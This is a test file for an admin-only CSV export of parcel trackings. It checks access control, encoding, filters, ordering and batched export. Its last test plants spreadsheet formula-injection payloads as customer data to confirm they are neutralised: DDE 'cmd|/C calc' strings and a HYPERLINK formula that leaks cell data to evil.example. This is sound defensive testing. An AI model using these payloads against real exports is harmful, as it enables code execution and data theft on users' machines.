// The trackings CSV download over HTTP (docs/product/admin-trackings.md#csv-export): admins only, UTF-8 with BOM and the
// spec's columns, the list's filters and order, and every row however many batches it takes.
import fastifyCookie from '@fastify/cookie';
import Fastify, { type FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq, sql, type SQL } from 'drizzle-orm';
import {
  AUTH_MESSAGES,
  SESSION_COOKIE_NAME,
  TRACKINGS_CSV_PATH,
  TRACKING_SORTS,
  trackingListInput,
  type Priority,
  type TrackingListParams,
  type TrackingStatus,
} from '@casillero/shared';
import type { Database } from '../db/client';
import { mailboxes, trackings } from '../db/schema';
import { testConfig, type Config } from '../env';
import { exportTrackingBatches, listTrackings } from '../queries/trackings/list';
import { createServer } from '../server';
import { csvRows, isSpreadsheetNumber, opensAsFormula } from '../test/csv';
import { createTestDatabase } from '../test/db';
import { signedInAdmin, signedInCustomer } from '../test/factories';
import { TRACKINGS_CSV_HEADERS, registerExportRoutes } from './exports';

const HEADER =
  '"Tracking","Cliente","Casillero","Estado","Transportista","Peso estimado (kg, punto decimal)","Valor estimado (USD, punto decimal)","Prioridad","Fecha"';

let database: Database;
let config: Config;
let server: Awaited<ReturnType<typeof createServer>>;
let admin: Awaited<ReturnType<typeof signedInAdmin>>;
let customer: Awaited<ReturnType<typeof signedInCustomer>>;
let ana: Awaited<ReturnType<typeof customerWithMailbox>>;
let jose: Awaited<ReturnType<typeof customerWithMailbox>>;
const db = () => database.db;

/** A customer whose mailbox is active, ready to receive trackings. */
async function customerWithMailbox(nombre: string) {
  const who = await signedInCustomer(db(), { nombre });
  const [mailbox] = await db()
    .update(mailboxes)
    .set({ status: 'active' })
    .where(eq(mailboxes.userId, who.user.id))
    .returning({ id: mailboxes.id, mailboxCode: mailboxes.mailboxCode });
  return { ...who, mailbox };
}

const STATUSES: TrackingStatus[] = ['created', 'in_transit', 'problem', 'ready_to_ship', 'needs_reempaque'];
const PRIORITIES: Priority[] = ['low', 'medium', 'high'];
const CARRIERS = ['UPS', 'DHL', 'Envíos Ñandú', 'FedEx'];

/** Tracking n of the fixtures: statuses, priorities and carriers spread so groups cross batches. */
function tracking(n: number, who: typeof ana, createdAt?: SQL) {
  return {
    trackingNumber: `EXP${String(n).padStart(4, '0')}`,
    userId: who.user.id,
    mailboxId: who.mailbox.id,
    description: 'Zapatos deportivos talla 38',
    senderName: 'Nike',
    carrier: CARRIERS[n % CARRIERS.length],
    status: STATUSES[n % STATUSES.length],
    priority: PRIORITIES[n % PRIORITIES.length],
    estimatedWeight: 1 + (n % 4) * 0.25,
    estimatedValueUsdCents: n * 1000,
    ...(createdAt ? { createdAt } : {}),
  };
}

beforeAll(async () => {
  database = await createTestDatabase();
  config = testConfig({ appUrl: 'http://localhost:3000' });
  server = await createServer({ config, database });
  admin = await signedInAdmin(db());
  customer = await signedInCustomer(db(), { nombre: 'Carla Cliente' });
  ana = await customerWithMailbox('Ana "La Flaca" Zamora, hija');
  jose = await customerWithMailbox('José Núñez Peña');

  // Twelve in one statement: the same created_at, so only the id orders them.
  await db()
    .insert(trackings)
    .values(Array.from({ length: 12 }, (_, i) => tracking(i + 1, i % 2 ? jose : ana)));
  // Ten in the same millisecond, apart by microseconds (a JavaScript Date cannot tell them apart);
  // two of them at the very same instant.
  const micro = (us: number) => sql`${`2026-03-01 12:00:00.123${String(us).padStart(3, '0')}+00`}::timestamptz`;
  await db()
    .insert(trackings)
    .values(Array.from({ length: 10 }, (_, i) => tracking(13 + i, i % 3 ? ana : jose, micro(i === 9 ? 8 : i + 1))));
  // Three more, each in its own statement (distinct created_at).
  for (const n of [23, 24, 25]) await db().insert(trackings).values(tracking(n, jose));
  // The spec example: Ana's parcel waiting for a repack, 1 kg, USD 0, medium priority.
  await db()
    .insert(trackings)
    .values({
      ...tracking(26, ana),
      trackingNumber: 'QQOTHER003',
      status: 'needs_reempaque',
      priority: 'medium',
      carrier: 'DHL',
      estimatedWeight: 1,
      estimatedValueUsdCents: 0,
    });
});
afterAll(async () => {
  await server?.stop();
  await database?.close();
});

type Who = { visitor: { token: string | null } } | null;

function download(app: FastifyInstance, who: Who, params: Record<string, string> = {}) {
  const query = new URLSearchParams(params).toString();
  return app.inject({
    method: 'GET',
    url: query ? `${TRACKINGS_CSV_PATH}?${query}` : TRACKINGS_CSV_PATH,
    cookies: who?.visitor.token ? { [SESSION_COOKIE_NAME]: who.visitor.token } : {},
  });
}

/** The CSV's lines without the BOM, header first. */
function linesOf(body: string): string[] {
  expect(body.charCodeAt(0)).toBe(0xfeff);
  expect(body.endsWith('\r\n')).toBe(true);
  return body.slice(1, -2).split('\r\n');
}

/** The tracking numbers of the data lines, in order. */
const numbersOf = (body: string) =>
  linesOf(body)
    .slice(1)
    .map((line) => line.slice(1, line.indexOf('"', 1)));

/** The batches of an export, failing instead of looping should a keyset not advance. */
async function batchesOf(params: TrackingListParams, batchSize: number): Promise<string[][]> {
  const batches: string[][] = [];
  for await (const rows of exportTrackingBatches(db(), params, batchSize)) {
    batches.push(rows.map((r) => r.trackingNumber));
    if (batches.length > 100) throw new Error('La exportación no avanza');
  }
  return batches;
}

/** What the list shows for the same search params, every row (the fixtures fit one page of 100). */
async function listed(params: TrackingListParams | Record<string, string>): Promise<string[]> {
  const page = await listTrackings(db(), { ...trackingListInput.parse(params), page: 1, pageSize: 100 });
  expect(page.hasMore).toBe(false);
  return page.rows.map((r) => r.trackingNumber);
}

describe('GET /api/exports/trackings.csv', () => {
  it('answers 401 without a session and 403 to a customer, in Spanish', async () => {
    const anonymous = await download(server.app, null);
    expect(anonymous.statusCode).toBe(401);
    expect(anonymous.json()).toEqual({ error: AUTH_MESSAGES.unauthorized });
    const bogus = await download(server.app, { visitor: { token: 'no-es-un-token' } });
    expect(bogus.statusCode).toBe(401);
    expect(bogus.json()).toEqual({ error: AUTH_MESSAGES.unauthorized });
    const forbidden = await download(server.app, customer);
    expect(forbidden.statusCode).toBe(403);
    expect(forbidden.json()).toEqual({ error: AUTH_MESSAGES.forbidden });
    expect(forbidden.headers['content-disposition']).toBeUndefined();
  });

  it('downloads the whole set as a UTF-8 CSV with BOM, the spec columns, Spanish text and quoting', async () => {
    const res = await download(server.app, admin);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="trackings_\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.headers['cache-control']).toBe('no-store');
    expect([...res.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);

    const lines = linesOf(res.rawPayload.toString('utf8'));
    expect(lines[0]).toBe(HEADER);
    expect(lines).toHaveLength(1 + 26);
    expect(numbersOf(res.body)).toEqual(await listed({}));

    const spec = lines.find((l) => l.startsWith('"QQOTHER003"'))!;
    expect(spec).toContain(`"Ana ""La Flaca"" Zamora, hija <${ana.email}>"`);
    expect(spec).toContain(`"${ana.mailbox.mailboxCode}","Requiere reempaque","DHL","1.00","0.00","Media"`);
    expect(spec).toMatch(/,"\d{2}\/\d{2}\/\d{4},? \d{2}:\d{2}"$/);
    const spanish = lines.find((l) => l.startsWith('"EXP0006"'))!;
    const cells = `"EXP0006","José Núñez Peña <${jose.email}>","${jose.mailbox.mailboxCode}","En tránsito","Envíos Ñandú","1.50","60.00","Baja"`;
    expect(spanish.startsWith(`${cells},"`)).toBe(true);
    expect(spanish.slice(cells.length)).toMatch(/^,"\d{2}\/\d{2}\/\d{4},? \d{2}:\d{2}"$/);
  });

  it('applies the filters, the search and the order of the list; bad values fall back as on the page', async () => {
    const cases: Record<string, string>[] = [
      { status: 'problem' },
      { priority: 'high', carrier: 'UPS' },
      { carrier: 'Envíos Ñandú', sort: 'trackingNumber', dir: 'desc' },
      { q: 'zamora', sort: 'status' },
      { q: 'núñez', status: 'created' },
      { q: jose.mailbox.mailboxCode, sort: 'priority', dir: 'desc' },
      { q: 'exp001' },
    ];
    for (const params of cases) {
      const res = await download(server.app, admin, params);
      expect(res.statusCode).toBe(200);
      const expected = await listed(params);
      expect(expected.length, JSON.stringify(params)).toBeGreaterThan(0);
      expect(expected.length, JSON.stringify(params)).toBeLessThan(26);
      expect(numbersOf(res.body), JSON.stringify(params)).toEqual(expected);
    }
    const ana3 = numbersOf((await download(server.app, admin, { q: 'zamora' })).body);
    expect(ana3).toContain('QQOTHER003');
    expect(ana3).not.toContain('EXP0002');
    // An unknown status or sort is ignored, and a search too short to use an index as well.
    const lenient = await download(server.app, admin, { status: 'perdido', sort: 'color', q: 'ex' });
    expect(lenient.statusCode).toBe(200);
    expect(numbersOf(lenient.body)).toEqual(await listed({}));
  });
});

describe('export in batches', () => {
  let small: FastifyInstance;
  beforeAll(async () => {
    small = Fastify();
    await small.register(fastifyCookie);
    await registerExportRoutes(small, { db: db(), config, batchSize: 2 });
  });
  afterAll(async () => {
    await small?.close();
  });

  it('reads a batch at a time, never more rows than the batch size', async () => {
    const sizes = (await batchesOf({ sort: 'status' }, 4)).map((rows) => rows.length);
    expect(sizes.every((n) => n >= 1 && n <= 4)).toBe(true);
    expect(sizes.reduce((a, b) => a + b, 0)).toBe(26);
    expect(sizes.length).toBeGreaterThanOrEqual(7);
    // The microsecond and same-instant rows, one per batch in both directions.
    for (const dir of ['asc', 'desc'] as const) {
      expect((await batchesOf({ sort: 'createdAt', dir }, 1)).flat()).toEqual(await listed({ sort: 'createdAt', dir }));
    }
  });

  it('exports every row, once, in the list order for every sort and direction, across many batches', async () => {
    for (const sort of TRACKING_SORTS) {
      for (const dir of ['asc', 'desc'] as const) {
        const res = await download(small, admin, { sort, dir });
        expect(res.statusCode).toBe(200);
        expect(linesOf(res.body)[0]).toBe(HEADER);
        expect(numbersOf(res.body), `${sort} ${dir}`).toEqual(await listed({ sort, dir }));
        expect(new Set(numbersOf(res.body)).size).toBe(26);
      }
    }
  });

  it('keeps filters and searches across batches, with batch sizes that split every group', async () => {
    for (const batchSize of [1, 3, 5]) {
      for (const params of [
        { carrier: 'UPS', sort: 'status' },
        { q: 'zamora', sort: 'priority', dir: 'desc' },
        { q: 'exp', sort: 'carrier' },
        { priority: 'medium', sort: 'createdAt', dir: 'asc' },
      ] as TrackingListParams[]) {
        const rows = (await batchesOf(params, batchSize)).flat();
        expect(rows, `${batchSize} ${JSON.stringify(params)}`).toEqual(await listed(params));
      }
    }
    const res = await download(small, admin, { q: 'exp', sort: 'carrier', dir: 'desc' });
    expect(numbersOf(res.body)).toEqual(await listed({ q: 'exp', sort: 'carrier', dir: 'desc' }));
    expect(numbersOf(res.body)).toHaveLength(25);
  });

  it('still refuses anonymous and customer requests', async () => {
    expect((await download(small, null)).statusCode).toBe(401);
    expect((await download(small, customer)).statusCode).toBe(403);
  });
});

describe('formula injection', () => {
  it("writes a customer's formula-like name and carrier as text, and the weights and values as numbers that sum", async () => {
    const payload = `-1+cmd|' /C calc'!A0`;
    const mallory = await customerWithMailbox(payload);
    await db()
      .insert(trackings)
      .values([
        {
          ...tracking(901, mallory),
          trackingNumber: 'INJ0901',
          status: 'created' as const,
          carrier: `@SUM(1+9)*cmd|' /C calc'!A0`,
          estimatedWeight: 2.5,
          estimatedValueUsdCents: 123450,
        },
        {
          ...tracking(902, mallory),
          trackingNumber: 'INJ0902',
          carrier: `=HYPERLINK("http://evil.example/?d="&A1,"Ver")`,
          estimatedWeight: 0.75,
          estimatedValueUsdCents: 0,
        },
      ]);

    const res = await download(server.app, admin, { q: mallory.email });
    expect(res.statusCode).toBe(200);
    const [header, ...rows] = csvRows(res.body);
    expect(header).toEqual(TRACKINGS_CSV_HEADERS);
    expect(rows.map((r) => r[0]).sort()).toEqual(['INJ0901', 'INJ0902']);
    const first = rows.find((r) => r[0] === 'INJ0901')!;
    expect(first.slice(1, 7)).toEqual([
      `'${payload} <${mallory.email}>`,
      mallory.mailbox.mailboxCode,
      'Creado',
      `'@SUM(1+9)*cmd|' /C calc'!A0`,
      '2.50',
      '1234.50',
    ]);
    expect(rows.find((r) => r[0] === 'INJ0902')![4]).toBe(`'=HYPERLINK("http://evil.example/?d="&A1,"Ver")`);

    // The whole file, every customer: no cell opens as a formula; weights and values are numbers
    // whose sums are the database's.
    const all = csvRows((await download(server.app, admin)).body).slice(1);
    expect(all.flat().filter(opensAsFormula)).toEqual([]);
    const weights = all.map((r) => r[TRACKINGS_CSV_HEADERS.indexOf('Peso estimado (kg, punto decimal)')]);
    const values = all.map((r) => r[TRACKINGS_CSV_HEADERS.indexOf('Valor estimado (USD, punto decimal)')]);
    expect([...weights, ...values].every(isSpreadsheetNumber)).toBe(true);
    const [sums] = await db()
      .select({
        weight: sql<string>`sum(${trackings.estimatedWeight})::text`,
        value: sql<string>`sum(${trackings.estimatedValueUsdCents})::text`,
      })
      .from(trackings);
    const total = (cells: string[]) => cells.reduce((sum, cell) => sum + Math.round(Number(cell) * 100), 0) / 100;
    expect(total(weights)).toBe(Number(sums.weight));
    // The CSV writes dollars; the column holds cents.
    expect(Math.round(total(values) * 100)).toBe(Number(sums.value));
  });
});
